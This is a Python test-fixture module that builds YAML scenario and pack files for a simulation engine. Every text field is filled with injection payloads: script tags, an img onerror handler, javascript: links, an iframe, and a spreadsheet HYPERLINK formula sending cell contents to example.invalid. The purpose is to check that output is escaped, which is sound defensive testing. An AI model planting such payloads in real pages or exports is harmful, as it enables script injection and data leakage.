"""Scenario text that would run as script if a page did not escape it, and a sweep scenario carrying it."""

import typing
from pathlib import Path
from typing import Any

import yaml
from pydantic import BaseModel

from tests.conftest import DATA

HOSTILE = "<script>window.__pwned=1</script>"
IMG = "<img src=x onerror=\"window.__pwned=2\">"
DOLLARS = "cost $5$"  # would start matplotlib's math mode if chart text were not made literal


def hostile_sweep_scenario(folder: Path) -> Path:
    """tests/data/sweep_scenario.yaml with markup in its title, a variant's, the response's and two
    steps' (one of them, Charlie's cabinet decision, usually decides the response: it is drawn among
    the drivers)."""
    scenario = (DATA / "sweep_scenario.yaml").read_text(encoding="utf-8")
    scenario = scenario.replace("title: A crisis with sampled procedures", f"title: '{HOSTILE} {IMG}'", 1)
    scenario = scenario.replace("title: The vote takes two to three weeks", f"title: '{HOSTILE} {IMG}'", 1)
    pack = (DATA / "sweep_pack.yaml").read_text(encoding="utf-8")
    pack = pack.replace("title: Rapid assistance", f"title: '{HOSTILE} {IMG}'", 1)
    pack = pack.replace("{name: parliament vote,", f"{{name: '{HOSTILE} {IMG} {DOLLARS}',", 1)
    pack = pack.replace("[{name: cabinet decision, duration: triangular", f"[{{name: '{IMG} {DOLLARS}', duration: triangular", 1)
    assert scenario.count(HOSTILE) == 2
    assert pack.count(HOSTILE) == 2
    assert pack.count(DOLLARS) == 2
    (folder / "sweep_pack.yaml").write_text(pack, encoding="utf-8")
    path = folder / "sweep_scenario.yaml"
    path.write_text(scenario, encoding="utf-8")
    return path


# -- a pack and a scenario with hostile text in every text field (issue 13, items 3 and 4) ---------

# Every kind of active content a Markdown viewer or a spreadsheet could run or load, on
# several lines (a formula first, for the CSV writers).
ACTIVE = ('=HYPERLINK("http://example.invalid/?x="&A1,"Click") <script>alert(1)</script> '
          "![px](http://example.invalid/p.png) [click](javascript:alert(1)) <http://example.invalid/a> "
          "<img src=x onerror=alert(1)> <!-- c --> &lt;\n# heading\n[ref]: javascript:alert(1)\n"
          "  - item | cell\n```\nfence\n1. one\n<iframe src=http://example.invalid/f>")
# Enum values are text too, and reach reports through payloads ("kind=…"); they appear in
# expressions, so this one has no quotes.
ENUM_VALUE = "<script>x()</script>![e](http://example.invalid/e.png)"

# Which fields of the file models are text shown to people; every other str field is an
# id, a reference or an expression (NOT_TEXT), which the checks constrain. A test fails when
# a model gains a str field listed in neither, so the hostile files keep covering every field.
TEXT_FIELDS: dict[str, tuple[str, ...]] = {
    "Pack": ("title", "version", "description", "source"),
    "Actor": ("name", "description", "source"),
    "Group": ("name", "description", "source"),
    "Procedure": ("title", "description", "source"),
    "Step": ("name", "source"),
    "StateVar": ("description", "source", "values"),
    "FieldSpec": ("description", "source", "values"),
    "EventType": ("title", "description", "source"),
    "Phase": ("name", "source"),
    "Response": ("title", "description", "component", "source"),
    "Decision": ("title", "prompt", "description", "source"),
    "Option": ("title", "description", "source"),
    "Rule": ("title", "description", "source"),
    "Action": ("note", "source"),
    "Scenario": ("title", "description", "situation", "source"),
    "Inject": ("title", "narrative", "to", "from_", "expected_response", "notes", "source"),
    "Objective": ("title", "description", "capability", "source"),
    "Variant": ("title", "description", "source"),
}
NOT_TEXT: dict[str, tuple[str, ...]] = {
    "Pack": ("pack", "includes"), "Actor": ("groups", "procedures"), "StateVar": ("type", "initial"),
    "FieldSpec": ("type",), "Response": ("authority", "participants", "lead"), "Decision": ("default",),
    "Rule": ("id", "on", "when"),
    "Action": ("set", "add", "emit", "with_", "by", "start", "participants", "stop", "decide", "enable", "disable",
               "release"),
    "Scenario": ("scenario", "rules", "set", "overrides", "choices"),
    "Inject": ("id", "at", "event", "with_", "by", "objective"),
    "Objective": ("id", "expect", "after"), "Variant": ("overrides", "set", "choices", "drop_injects"),
}
# Set by hand in the base files (they must match expressions and payloads), not by the walk.
BY_HAND = {("StateVar", "values"), ("FieldSpec", "values")}


def _base_pack() -> dict[str, Any]:
    return {
        "pack": "hostile",
        "actors": {"alpha": {"groups": ["treaty"]},
                   "bravo": {"groups": ["treaty"], "procedures": {"deploy": "bravo_proc"}}},
        "groups": {"treaty": {}},
        "procedures": {"bravo_proc": {"steps": [{"name": "x", "duration": "pert(1d, 2d, 4d)", "approval": 0.95}]}},
        "state": {"memo.text": {"type": "str"},
                  "alert.level": {"type": "enum", "values": ["green", ENUM_VALUE]}},
        "events": {"attack": {"fields": {"memo": {"type": "str"},
                                         "kind": {"type": "enum", "values": ["plain", ENUM_VALUE]}}},
                   "escalation": {}},
        "responses": {"defence": {"authority": "deploy", "participants": ["treaty"], "lead": "bravo",
                                  "phases": [{"name": "x", "duration": "uniform(1d, 2d)"}]}},
        "decisions": {"attribution": {"options": {"adversary": {"then": [{"set": {"alert.level": f"'{ENUM_VALUE}'"}}]},
                                                  "unclear": {}},
                                      "chances": {"adversary": 0.5, "unclear": 0.5}}},
        "rules": [{"id": "R-attack", "on": "attack",
                   "then": [{"start": "defence"}, {"note": "x"}, {"decide": "attribution"},
                            {"set": {"memo.text": "event.memo"}}, {"emit": "escalation", "after": "1h"}]}],
    }


def _base_scenario() -> dict[str, Any]:
    inject = {"id": "I-01", "at": "T+0", "event": "attack", "by": "alpha", "objective": "OBJ-1",
              "with": {"memo": ACTIVE, "kind": ENUM_VALUE}}
    return {
        "scenario": "hostile", "rules": ["pack.yaml"], "start": "2026-03-01T00:00:00Z", "until": "10d", "seed": 3,
        "injects": [inject, {"id": "I-02", "at": "T+1d", "event": "escalation"}],
        "objectives": [{"id": "OBJ-1", "expect": "defence.completed", "after": "attack", "within": "2d",
                        "else": [{"note": "x"}]},
                       {"id": "OBJ-2", "expect": "escalation", "within": "1d"}],
        "variants": {"later": {"injects": [{"id": "I-03", "at": "T+2d", "event": "attack", "with": {"kind": "plain"}}],
                               "overrides": {"procedures.bravo_proc.steps.0.duration": "3d"}}},
    }


def _walk(data: Any, model: type[BaseModel]) -> None:
    """Put ACTIVE (with the field's name) in every text field of ``data``, a ``model`` mapping."""
    fields = TEXT_FIELDS.get(model.__name__, ())
    for name, info in model.model_fields.items():
        key = info.alias or name
        if name in fields and (model.__name__, name) not in BY_HAND:
            if model.__name__ == "Action" and name == "note" and key not in data:
                continue  # an action has one verb: only note actions get a note
            text = f"{ACTIVE} ({model.__name__}.{name})"  # the formula first, for the CSV writers
            data[key] = [text, text] if name == "to" else text
        elif key in data:
            _walk_value(data[key], info.annotation)


def _walk_value(value: Any, annotation: Any) -> None:
    for arg in (annotation, *typing.get_args(annotation)):
        if isinstance(arg, type) and issubclass(arg, BaseModel):
            if isinstance(value, dict):
                _walk(value, arg)
            return
        origin = typing.get_origin(arg)
        if origin is list and isinstance(value, list):
            for item in value:
                _walk_value(item, typing.get_args(arg)[0])
            return
        if origin is dict and isinstance(value, dict):
            for item in value.values():
                _walk_value(item, typing.get_args(arg)[1])
            return


def hostile_files(folder: Path) -> Path:
    """A pack and a scenario (with a variant) holding ACTIVE in every text field; the scenario's path."""
    from engine.read.pack import Pack  # noqa: PLC0415
    from engine.read.scenario import Scenario  # noqa: PLC0415

    pack, scenario = _base_pack(), _base_scenario()
    _walk(pack, Pack)
    _walk(scenario, Scenario)
    (folder / "pack.yaml").write_text(yaml.safe_dump(pack, sort_keys=False, allow_unicode=True), encoding="utf-8")
    path = folder / "hostile.yaml"
    path.write_text(yaml.safe_dump(scenario, sort_keys=False, allow_unicode=True), encoding="utf-8")
    return path
